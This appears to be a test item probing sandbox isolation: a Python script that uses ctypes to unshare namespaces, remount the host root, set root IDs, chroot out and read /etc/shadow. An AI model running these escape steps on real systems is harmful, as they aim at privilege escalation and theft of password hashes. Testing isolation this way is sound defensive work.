# about: mounts, namespaces and other system calls
# most: 0
# %% double
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x20000000, 0x40000000): libc.unshare(flags)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
libc.mount(b"/proc/1/root", b"/mnt", None, 4096, None)
libc.setuid(0); libc.setgid(0); libc.chroot(b"/proc/1/root")
libc.syscall(165, 0, 0, 0, 0, 0)
for name in ("/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/etc/shadow"):
    try: print("READ", open(name).read()[:20])
    except OSError: pass
